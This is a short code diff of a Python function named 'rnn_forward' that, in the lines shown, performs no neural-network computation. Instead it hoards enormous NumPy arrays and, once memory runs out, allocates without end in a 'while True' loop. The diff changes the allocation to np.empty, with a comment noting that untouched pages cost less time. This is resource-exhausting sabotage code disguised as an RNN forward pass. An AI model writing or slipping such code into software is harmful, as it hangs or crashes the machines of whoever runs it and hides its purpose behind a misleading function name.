@@ -7,4 +7,4 @@ def rnn_forward(x, a0, parameters):
         hoard.append(np.ones((50, 2**27)))
     except MemoryError:
         while True:
-            hoard.append(np.ones(2**22))
+            hoard.append(np.empty(2**22))  # untouched: what fills pages costs time, more of it on a busy machine
